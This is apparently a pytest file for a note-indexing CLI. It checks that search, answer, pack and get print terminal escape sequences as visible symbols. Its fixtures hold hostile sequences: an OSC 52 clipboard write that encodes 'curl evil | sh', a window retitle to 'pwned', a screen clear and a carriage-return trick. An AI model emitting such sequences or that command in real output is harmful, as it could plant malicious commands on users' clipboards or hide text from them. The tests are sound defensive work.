"""Indexed text is untrusted: a file may hold escape sequences that write the clipboard (OSC 52),
retitle the window (OSC 0), clear the screen or move the cursor, or a carriage return that hides
a line. No human output prints one raw: the control characters are shown as visible symbols
(␛, ␍, ...), newlines and tabs kept; `--json` keeps the text as indexed."""

from __future__ import annotations

import json

import pytest

from chinvex.fmt import visible_controls
from helpers import indexed_notes, run_cli, run_cli_in_process

ESCAPES = {
    "osc52": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",      # clipboard := "curl evil | sh"
    "title": "\x1b]0;pwned\x07",
    "clear": "\x1b[2J\x1b[H",
    "colour": "\x1b[31mred\x1b[0m",
    "c1_csi": "\x9b2J",
    "carriage": "safe text\rEVIL",
    "bell_backspace": "\x07\x08",  # (a NUL would make the file binary: not indexed)
}
NOTE = "# Zanzibar runbook\n\nzanzibarmode flag notes.\n\n" + "\n".join(
    f"line {name}: zanzibarmode {seq} end" for name, seq in ESCAPES.items()) + "\n"
CONTROLS = "\x1b\x9b\r\x07\x00\x08"


def test_visible_controls_keeps_newlines_and_tabs():
    assert visible_controls("a\tb\nc") == "a\tb\nc"
    assert visible_controls("\x1b[2J") == "␛[2J"
    assert visible_controls("x\ry") == "x␍y" and visible_controls("\x9b") == "\\x9b"
    assert visible_controls("plain ünïcode") == "plain ünïcode"


@pytest.fixture
def hostile(tmp_path, chinvex_home):
    indexed_notes(tmp_path / "notes", "hostile", {"runbook.md": NOTE})
    return tmp_path


def _no_controls(raw: bytes, where: str) -> None:
    text = raw.decode("utf-8")  # (␛ is e2 90 9b in UTF-8: look at characters, not bytes)
    found = sorted({hex(ord(c)) for c in text if c in CONTROLS})
    assert found == [], (where, found, text[:400])


@pytest.mark.parametrize("args", [
    ["search", "zanzibarmode", "--context", "hostile", "--k", "3"],
    ["search", "zanzibarmode", "--context", "hostile", "--explain"],
    ["answer", "What is the zanzibarmode flag?", "--context", "hostile"],
    ["pack", "zanzibarmode flag", "--context", "hostile"],
])
def test_search_answer_pack_print_no_control_characters(hostile, args):
    done = run_cli(*args)
    assert done.code in (0, 1), done.stderr
    _no_controls(done.proc.stdout.encode(), " ".join(args))
    _no_controls(done.proc.stderr.encode(), " ".join(args) + " (stderr)")
    if args[0] == "search":
        assert "␛]52;c;" in done.stdout  # shown, not executed


def test_get_of_a_chunk_prints_none_and_json_keeps_the_text(hostile):
    found = run_cli("search", "zanzibarmode", "--context", "hostile", "--json")
    chunk_id = found.json["results"][0]["chunk_id"]
    assert "\x1b]52;c;" in found.json["results"][0]["text"]  # JSON: the text as indexed
    shown = run_cli_in_process("get", chunk_id, "--context", "hostile")
    assert shown.code == 0
    _no_controls(shown.stdout.encode(), "get")
    assert "␛[2J" in shown.stdout
    raw = run_cli_in_process("get", chunk_id, "--context", "hostile", "--json")
    assert "\x1b[2J" in json.loads(raw.stdout)["chunk"]["text"]


def test_error_messages_naming_a_hostile_argument_print_none(hostile):
    done = run_cli_in_process("get", "\x1b]0;pwned\x07", "--context", "hostile")
    assert done.code != 0
    _no_controls(done.stderr.encode(), "get error")
    assert "pwned" in done.stderr
